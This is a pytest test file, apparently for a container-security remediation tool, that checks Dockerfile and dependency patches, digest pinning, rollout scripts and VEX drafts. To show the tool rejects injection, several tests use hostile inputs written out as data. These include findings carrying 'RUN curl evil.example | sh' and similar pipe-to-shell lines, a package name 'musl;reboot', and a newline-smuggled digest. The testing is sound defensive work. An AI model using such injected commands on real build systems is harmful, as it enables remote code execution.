"""hullguard remediate: patches `git apply --check` accepts, re-parsed and re-linted with the
fixed checks passing; digests from a real registry; rollout.sh and the kustomize entry."""

from __future__ import annotations

import json
import os
import re
import subprocess
from datetime import date
from pathlib import Path

import pytest

from hullguard.errors import HullguardError, InputError
from hullguard.inventory.dockerfile import parse_dockerfile
from hullguard.lint import lint_file
from hullguard.remediate.dockerfile import patch_dockerfile
from hullguard.remediate.plan import ImagePlan, end_of_life, plan_image
from hullguard.remediate.run import RemediateOptions, remediate, resolve_digest
from tests.contain.kube import find, render
from tests.support.env import tool
from tests.support.registry import RegistryServer, skopeo_push

ALPINE_DIGEST = "sha256:" + "ab" * 32
PATCHED = "registry.shop.internal/shop/web@sha256:" + "cd" * 32
WEB = "registry.shop.internal/shop/web:1.4.2"


@pytest.fixture(scope="module")
def demo_out(demo_repo: tuple[Path, Path], tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("remediation") / "out"
    remediate([demo_repo[0]], RemediateOptions(out, digests={"docker.io/library/alpine:3.10":
                                                             ALPINE_DIGEST},
                                               patched={WEB: PATCHED}, offline=True))
    return out


def _checks(path: Path) -> set[str]:
    findings, _ = lint_file(path, "L3")
    return {f.check.id for f in findings}


def _apply(repo: Path, diff: Path) -> None:
    git = tool("git")
    done = subprocess.run([git, "-C", str(repo), "apply", "--check", str(diff)],
                          capture_output=True, text=True, timeout=60, check=False)
    assert done.returncode == 0, done.stderr
    subprocess.run([git, "-C", str(repo), "apply", str(diff)], check=True, timeout=60)


def test_demo_patches_apply_reparse_and_relint(demo_repo: tuple[Path, Path], demo_out: Path,
                                               tmp_path: Path) -> None:
    _, repo = demo_repo
    work = tmp_path / "repo"
    subprocess.run(["cp", "-a", str(repo), str(work)], check=True)
    web = work / "fleet/dockerfiles/web/Dockerfile"
    before = _checks(web)
    assert {"HG-D001", "HG-D003"} <= before
    diffs = sorted((demo_out / "dockerfiles").glob("*.diff"))
    assert [d.name.split("-", 1)[1] for d in diffs] == [
        "registry.shop.internal_shop_frontend_3.2.0.diff",
        "registry.shop.internal_shop_web_1.4.2.diff"]
    for diff in diffs:
        _apply(work, diff)
    text = web.read_text()
    # multi-stage, FROM ${BASE}: pinned through the ARG default, comments and blank lines kept
    assert f"ARG BASE=alpine:3.10@{ALPINE_DIGEST}\nFROM ${{BASE}} AS base\n" in text
    assert "\n\nFROM base AS build\n" in text
    doc = parse_dockerfile(text, str(web))
    assert [s.base for s in doc.stages] == [f"alpine:3.10@{ALPINE_DIGEST}", "base", "build"]
    final = doc.stages[-1].instructions
    assert final[1].value == "apk upgrade --no-cache busybox libcrypto1.1 libssl1.1 musl"
    assert final[-1].keyword == "USER" and final[-1].value == "65532:65532"
    after = _checks(web)
    assert not {"HG-D001", "HG-D003"} & after
    assert "CVE-2019-14697" in text.split("RUN apk upgrade")[0].rsplit("\n", 2)[-2]
    frontend = (work / "fleet/dockerfiles/frontend/Dockerfile").read_text()
    assert frontend.index("RUN apk del --no-cache apk-tools") < frontend.index("USER 1000")
    assert "USER 65532" not in frontend  # it already runs as 1000


def test_report_lists_fixed_and_left_findings(demo_out: Path) -> None:
    text = (demo_out / "REMEDIATION.md").read_text()
    web = text.split(f"## {WEB}")[1].split("\n## ")[0]
    assert "CVE-2019-14697" in web and "USER 65532:65532" in web
    assert "CVE-2019-10906 in Jinja2: pypi package: upgrade it to 2.10.1" in web
    worker = text.split("## registry.shop.internal/shop/worker:2.0.1")[1].split("\n## ")[0]
    assert "no Dockerfile" in worker and "apk upgrade --no-cache" in worker
    assert "end of life: yes (since 2021-05-01)" in worker and "copa patch" not in worker
    assert "busybox's wget" in text  # what could not be removed is said
    assert "- newer base tag: skipped: --offline" in web  # said, not pretended


def test_kustomize_images_entry_renders_by_digest(demo_repo: tuple[Path, Path], demo_out: Path,
                                                  tmp_path: Path) -> None:
    _, repo = demo_repo
    images = (demo_out / "kustomize-images.yaml").read_text()
    (tmp_path / "prod.yaml").write_text((repo / "fleet/k8s/shop-prod.yaml").read_text())
    (tmp_path / "kustomization.yaml").write_text("resources: [prod.yaml]\n" + images)
    web = find(render(tmp_path), "Deployment", "web")
    spec = web["spec"]["template"]["spec"]
    assert [c["image"] for c in spec["containers"] + spec["initContainers"]] == [PATCHED] * 2
    worker = find(render(tmp_path), "Deployment", "worker")  # no patched digest given yet
    assert "REPLACE-WITH-THE-PATCHED-IMAGE-DIGEST" in \
        worker["spec"]["template"]["spec"]["containers"][0]["image"]


def test_rollout_script(demo_out: Path, tmp_path: Path) -> None:
    """A recording `kubectl` stand-in (no cluster here) shows the commands and their order."""
    fake = tmp_path / "kubectl"
    fake.write_text('#!/bin/sh\necho "$*" >> "$KUBECTL_LOG"\n')
    fake.chmod(0o755)
    env = {**os.environ, "PATH": f"{tmp_path}:{os.environ['PATH']}",
           "KUBECTL_LOG": str(tmp_path / "log")}
    script = demo_out / "rollout.sh"
    done = subprocess.run(["sh", str(script)], env=env, capture_output=True, text=True,
                          timeout=60, check=False)
    assert done.returncode == 2 and "PATCHED_DOCKER_IO_LIBRARY_ALPINE_3_10" in done.stderr
    env.update({k: f"example.org/x@sha256:{'e' * 64}" for k in re.findall(
        r"^(PATCHED_\w+)=", script.read_text(), re.M)})
    subprocess.run(["sh", str(script), "--apply"], env=env, check=True, timeout=60)
    calls = (tmp_path / "log").read_text().splitlines()
    web = [c for c in calls if "deployment/web" in c]
    assert web[0].startswith("set image -n shop-prod deployment/web migrate=") \
        and "web=example.org/x@sha256:" in web[0]
    assert web[1].startswith("annotate --overwrite") and "change-cause=hullguard" in web[1]
    assert web[2].startswith("rollout status") and "--timeout=300s" in web[2]
    assert web[3].startswith("rollout history")
    assert "# undo: kubectl rollout undo -n shop-prod deployment/web" in script.read_text()
    env["PATCHED_REGISTRY_SHOP_INTERNAL_SHOP_WEB_1_4_2"] = "example.org/x:latest"
    done = subprocess.run(["sh", str(script)], env=env, capture_output=True, text=True,
                          timeout=60, check=False)
    assert done.returncode == 2 and "by digest" in done.stderr


HOSTILE = """# escape=`
FROM debian:12 AS build
RUN <<EOF
apt-get update
FROM evil:latest
EOF
FROM debian:12
# comment kept
COPY --from=build /x /x
RUN echo one `
    && echo two
"""


def test_heredoc_and_escape_directive_warn_and_still_patch(tmp_path: Path) -> None:
    plan = plan_image({"name": "example.org/app:1", "findings": [
        {"id": "CVE-1", "has_fix": True, "fixed_versions": ["3.0.1"],
         "package": {"name": "openssl", "type": "deb",
                     "purl": "pkg:deb/debian/openssl@3.0.0?distro=debian-12"}}]})
    plan.packages = {"dpkg", "curl", "openssl"}
    patch = patch_dockerfile(HOSTILE, "Dockerfile", "Dockerfile", plan,
                             {"docker.io/library/debian:12": ALPINE_DIGEST})
    assert any("heredocs" in w for w in patch.warnings)
    assert any("escape directive" in w for w in patch.warnings)
    assert any("apt and dpkg" in w for w in patch.warnings)
    (tmp_path / "Dockerfile").write_text(HOSTILE)
    subprocess.run([tool("git"), "init", "-q", str(tmp_path)], check=True)
    (tmp_path / "p.diff").write_text(patch.diff)
    _apply(tmp_path, tmp_path / "p.diff")
    doc = parse_dockerfile((tmp_path / "Dockerfile").read_text())
    assert [s.base for s in doc.stages] == [f"debian:12@{ALPINE_DIGEST}"] * 2
    assert doc.stages[0].instructions[1].heredocs[0].content.count("\n") == 2  # untouched
    runs = [i.value for i in doc.stages[1].instructions if i.keyword == "RUN"]
    assert runs[0].startswith("apt-get update && apt-get install -y --no-install-recommends "
                              "--only-upgrade openssl")
    assert runs[-1] == "apt-get purge -y --auto-remove curl"
    assert "# comment kept" in (tmp_path / "Dockerfile").read_text()
    assert "HG-D001" not in _checks(tmp_path / "Dockerfile")


def test_mixed_arg_from_is_not_guessed() -> None:
    text = "ARG TAG=3.19\nFROM alpine:${TAG}\nRUN true\n"
    patch = patch_dockerfile(text, "Dockerfile", "Dockerfile", ImagePlan("x"),
                             {"docker.io/library/alpine:3.19": ALPINE_DIGEST})
    assert any("mixes text and ARGs" in w for w in patch.warnings)
    assert "@sha256" not in patch.new_text


def test_digest_resolved_from_a_real_registry(registry_server: RegistryServer,
                                              tmp_path: Path) -> None:
    from hullguard.images.builder import FileSpec, ImageSpec, LayerSpec, write_oci_layout

    layer = LayerSpec((FileSpec("etc/os-release", b"ID=alpine\nVERSION_ID=3.22.1\n"),))
    layout = write_oci_layout(tmp_path / "base", ImageSpec([layer]), tag="v1")
    skopeo_push(layout, "v1", registry_server, "base/alpine")
    inspected = subprocess.run([tool("skopeo"), "inspect", "--tls-verify=false",
                                f"docker://{registry_server.host}/base/alpine:v1"],
                               capture_output=True, text=True, timeout=60, check=True)
    expected = json.loads(inspected.stdout)["Digest"]
    name = f"{registry_server.host}/base/alpine:v1"
    assert resolve_digest(name) == expected
    patch = patch_dockerfile(f"FROM {name}\nRUN true\n", "Dockerfile", "Dockerfile",
                             ImagePlan("x"), {name: resolve_digest(name)})
    assert f"FROM {name}@{expected}\n" in patch.new_text
    assert resolve_digest(f"{registry_server.host}/base/missing:v1") == ""


def test_multi_arch_base_is_pinned_by_its_index_digest(registry_server: RegistryServer,
                                                      tmp_path: Path) -> None:
    """respond scanned one platform (its manifest digest is in the incident); the patched
    FROM must carry the index digest the tag points at, or other platforms stop building.
    Offline, the scanned digest is used and the warning says what it is."""
    from hullguard.contain.incident import IncidentFolder
    from hullguard.images.builder import FileSpec, ImageSpec, LayerSpec, write_oci_layout
    from hullguard.remediate.run import _digests

    layer = LayerSpec((FileSpec("etc/os-release", b"ID=alpine\nVERSION_ID=3.22.1\n"),))
    specs = [ImageSpec([layer], architecture=arch) for arch in ("amd64", "arm64")]
    skopeo_push(write_oci_layout(tmp_path / "multi", specs, tag="v1"), "v1", registry_server,
                "base/multi")
    name = f"{registry_server.host}/base/multi:v1"
    raw = subprocess.run([tool("skopeo"), "inspect", "--raw", "--tls-verify=false",
                          f"docker://{name}"], capture_output=True, text=True, timeout=60,
                         check=True).stdout
    platform_digest = json.loads(raw)["manifests"][0]["digest"]
    index_digest = resolve_digest(name)
    assert index_digest.startswith("sha256:") and index_digest != platform_digest
    incident = IncidentFolder(tmp_path, "HG-1", (), (), ({"name": name, "source": name,
                                                          "digest": platform_digest},), ())
    warnings: list[str] = []
    text = f"FROM {name}\nRUN true\n"
    online = _digests(text, "Dockerfile", incident, RemediateOptions(tmp_path), warnings)
    assert online == {name: index_digest} and warnings == []
    offline = _digests(text, "Dockerfile", incident,
                       RemediateOptions(tmp_path, offline=True), warnings)
    assert offline == {name: platform_digest}
    assert len(warnings) == 1 and "one platform's manifest" in warnings[0]


def test_copacetic_only_for_supported_distributions() -> None:
    from hullguard.remediate.report import _without_dockerfile
    from hullguard.remediate.run import ImageRemedy

    finding = {"id": "CVE-2", "has_fix": True, "fixed_versions": ["1.2"],
               "package": {"name": "musl", "type": "apk",
                           "purl": "pkg:apk/alpine/musl@1.1?distro=alpine-3.22.1"}}
    plan = plan_image({"name": "example.org/app:1", "findings": [finding]})
    today = date(2026, 12, 3)
    assert plan.distro == "alpine 3.22" and end_of_life(plan.distro, today).startswith("no")
    lines = _without_dockerfile(ImageRemedy(plan), end_of_life(plan.distro, today))
    assert any("copa patch --image example.org/app:1 --tag patched" in x for x in lines)
    assert end_of_life("alpine 3.10", today) == "yes (since 2021-05-01)"
    assert end_of_life("alpine 9.99", today) == "unknown"
    lines = _without_dockerfile(ImageRemedy(plan), "yes (since 2021-05-01)")
    assert not any("copa" in x for x in lines)


def test_foreign_incident_and_unknown_image(demo_repo: tuple[Path, Path], tmp_path: Path) -> None:
    incident, _ = demo_repo
    foreign = tmp_path / "foreign"
    foreign.mkdir()
    doc = json.loads((incident / "findings.json").read_text())
    doc["images"][0]["findings"] = "all of them"
    (foreign / "findings.json").write_text(json.dumps(doc))
    with pytest.raises(InputError, match=r"images\[0\]\.findings is not a list"):
        remediate([foreign], RemediateOptions(tmp_path / "out"))
    with pytest.raises(InputError, match="not in the incident"):
        remediate([incident], RemediateOptions(tmp_path / "out", images=("nginx:1",)))
    assert not (tmp_path / "out").exists()


def test_hostile_findings_cannot_inject_instructions() -> None:
    """A finding id with a newline would start a new Dockerfile instruction in the comment;
    a digest that is not one would land in the FROM line. Both are refused."""
    purl = "pkg:apk/alpine/musl@1?distro=alpine-3.19.1"
    hostile = {"id": "CVE-1\nRUN curl evil.example | sh", "has_fix": True,
               "fixed_versions": 5, "package": {"name": "musl", "type": "apk", "purl": purl}}
    good = {"id": "CVE-2", "has_fix": True, "fixed_versions": ["2"],
            "package": {"name": "musl;reboot", "type": "apk", "purl": ""}}
    plan = plan_image({"name": "x", "findings": [hostile, good, "not a finding"]})
    assert plan.upgrades == {}
    assert {left.why for left in plan.left} >= {"not an advisory id: ignored"}
    text = "FROM alpine:3.19\nRUN true\n"
    patch = patch_dockerfile(text, "Dockerfile", "Dockerfile", plan,
                             {"docker.io/library/alpine:3.19": "sha256:0\nRUN evil"})
    assert "evil" not in patch.new_text and any("not a sha256 digest" in w
                                                for w in patch.warnings)


def test_cli(demo_repo: tuple[Path, Path], tmp_path: Path) -> None:
    import sys

    from tests.support.env import REPO

    env = {**os.environ, "PYTHONPATH": str(REPO / "src")}

    def run(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([sys.executable, "-m", "hullguard", "remediate", *args], env=env,
                              capture_output=True, text=True, timeout=120, check=False)

    incident, _ = demo_repo
    done = run(str(incident), WEB, "--offline", "--out", str(tmp_path / "a"),
               "--digest", f"alpine:3.10={ALPINE_DIGEST}", "--patched", f"{WEB}={PATCHED}")
    assert done.returncode == 0, done.stderr
    assert "1 Dockerfile patch(es)" in done.stderr
    assert f'PATCHED_REGISTRY_SHOP_INTERNAL_SHOP_WEB_1_4_2:-{PATCHED}' in \
        (tmp_path / "a/rollout.sh").read_text()
    done = run(str(incident), "--digest", "alpine:3.10=latest", "--out", str(tmp_path / "b"))
    assert done.returncode == 2 and done.stderr.count("error:") == 1
    assert "not a sha256 digest" in done.stderr
    done = run(str(incident), "--patched", f"{WEB}=registry.shop.internal/shop/web:2",
               "--out", str(tmp_path / "c"))
    assert done.returncode == 2 and "does not name an image by digest" in done.stderr
    done = run(str(REPO / "src/hullguard/demo/data/fleet"), "--out", str(tmp_path / "d"))
    assert done.returncode == 2 and "needs an incident folder" in done.stderr
    assert not any((tmp_path / x).exists() for x in "bcd")


REQUIREMENTS = """# web's dependencies
Jinja2==2.10  # templating
requests >= 2.19.1
urllib3==1.24.1 \\
    --hash=sha256:0000000000000000000000000000000000000000000000000000000000000000
flask==1.0.2
"""
PACKAGE_JSON = """{
  "name": "frontend",
  "dependencies": {
    "lodash": "^4.17.15",
    "minimist": "github:substack/minimist#1.2.0"
  },
  "devDependencies": {"left-pad": "1.3.0"}
}
"""


def test_language_pins_in_the_build_context(demo_repo: tuple[Path, Path],
                                            tmp_path: Path) -> None:
    """The demo's real PyPI/npm findings (Jinja2, requests, urllib3, lodash, minimist): the
    requirements.txt and package.json beside the Dockerfiles get the fixed versions in the
    same patch; what cannot be edited without guessing (a hashed pin, a git dependency) is
    left and said; the findings fixed leave the "left" list."""
    incident, repo = tmp_path / "incident", tmp_path / "repo"
    subprocess.run(["cp", "-a", str(demo_repo[0]), str(incident)], check=True)
    subprocess.run(["cp", "-a", str(demo_repo[1]), str(repo)], check=True)
    doc = json.loads((incident / "findings.json").read_text())
    doc["inputs"] = [str(repo / "fleet")]
    (incident / "findings.json").write_text(json.dumps(doc))
    web, frontend = repo / "fleet/dockerfiles/web", repo / "fleet/dockerfiles/frontend"
    (web / "requirements.txt").write_text(REQUIREMENTS)
    (frontend / "package.json").write_text(PACKAGE_JSON)
    out = tmp_path / "out"
    changes = remediate([incident], RemediateOptions(out, offline=True))
    for diff in sorted((out / "dockerfiles").glob("*.diff")):
        _apply(repo, diff)
    assert (web / "requirements.txt").read_text() == REQUIREMENTS.replace(
        "Jinja2==2.10  # templating",
        "Jinja2==2.11.3  # templating  # hullguard: fixes CVE-2019-10906, CVE-2020-28493"
    ).replace("requests >= 2.19.1",
              "requests >= 2.31.0  # hullguard: fixes CVE-2018-18074, CVE-2023-32681")
    assert json.loads((frontend / "package.json").read_text())["dependencies"] == {
        "lodash": "^4.17.21", "minimist": "github:substack/minimist#1.2.0"}
    assert (frontend / "package.json").read_text() == PACKAGE_JSON.replace(
        '"^4.17.15"', '"^4.17.21"')  # formatting kept
    text = (out / "REMEDIATION.md").read_text()
    section = text.split(f"## {WEB}")[1].split("\n## ")[0]
    assert "requirements.txt: Jinja2 ==2.10 -> ==2.11.3 (fixes CVE-2019-10906" in section
    assert "CVE-2019-10906 in Jinja2" not in section.split("findings left")[1]
    assert "CVE-2019-11324 in urllib3" in section.split("findings left")[1]
    warnings = " ".join(changes.warnings)
    assert "urllib3 is hashed: not edited" in warnings
    assert "minimist is 'github:substack/minimist#1.2.0' in dependencies" in warnings


def test_language_pins_refuse_hostile_input(tmp_path: Path) -> None:
    """A fixed version that would inject a line, a symlinked requirements file, an unreadable
    package.json: nothing is edited from them."""
    from hullguard.remediate.langpins import lang_fixes, pin_context
    from hullguard.remediate.plan import SAFE_ID

    def finding(version: str) -> dict[str, object]:
        return {"id": "CVE-2019-10906", "has_fix": True, "fixed_versions": [version],
                "package": {"type": "pypi", "name": "Jinja2", "version": "2.10"}}

    assert lang_fixes([finding("2.10.1\nRUN curl evil | sh")], SAFE_ID) == []
    fixes = lang_fixes([finding("2.10.1")], SAFE_ID)
    assert [(f.name, f.fixed) for f in fixes] == [("Jinja2", "2.10.1")]
    (tmp_path / "elsewhere.txt").write_text("Jinja2==2.10\n")
    (tmp_path / "requirements.txt").symlink_to(tmp_path / "elsewhere.txt")
    (tmp_path / "Dockerfile").write_text("FROM scratch\n")
    assert pin_context(tmp_path / "Dockerfile", fixes).files == {}
    (tmp_path / "package.json").write_text('{"dependencies": {"a": "1"}, "x": ' + "[" * 5000)
    npm = lang_fixes([{**finding("2.10.1"), "package": {"type": "npm", "name": "a",
                                                        "version": "0.9.0"}}], SAFE_ID)
    assert [f.fixed for f in npm] == ["2.10.1"]
    with pytest.raises(HullguardError, match="nested too deeply"):
        pin_context(tmp_path / "Dockerfile", npm)
    (tmp_path / "package.json").write_text('{"dependencies": {"a": "1"},')
    with pytest.raises(InputError, match="malformed JSON"):
        pin_context(tmp_path / "Dockerfile", npm)


def test_vex_draft_lists_every_finding_left(demo_out: Path, tmp_path: Path) -> None:
    """vex.openvex.json: one under_investigation statement per finding left (it suppresses
    nothing as written); a responder's not_affected edit is read by hullguard's VEX loader."""
    from hullguard.vuln.vex import load_vex

    draft = demo_out / "vex.openvex.json"
    statements, warnings = load_vex(draft)
    assert statements == [] and warnings == []
    doc = json.loads(draft.read_text())
    text = (demo_out / "REMEDIATION.md").read_text()
    left = re.findall(r"^  - (\S+) in (\S+): ", text.split("findings left", 1)[1], re.M)
    ids = {s["vulnerability"]["name"] for s in doc["statements"]}
    assert "CVE-2019-10906" in ids and {i for i, _ in left} <= ids
    web = next(s for s in doc["statements"] if s["vulnerability"]["name"] == "CVE-2019-10906")
    assert web["products"][0]["@id"].startswith(WEB + "@sha256:")
    assert web["products"][0]["subcomponents"] == [{"@id": "pkg:pypi/jinja2@2.10"}]
    assert "VEX: `under_investigation` in `vex.openvex.json`" in text
    web.update(status="not_affected", justification="vulnerable_code_not_in_execute_path")
    edited = tmp_path / "vex.json"
    edited.write_text(json.dumps(doc))
    statements, warnings = load_vex(edited)
    assert [(sorted(s.ids), s.status) for s in statements] == [
        (["CVE-2019-10906"], "not_affected")] and warnings == []
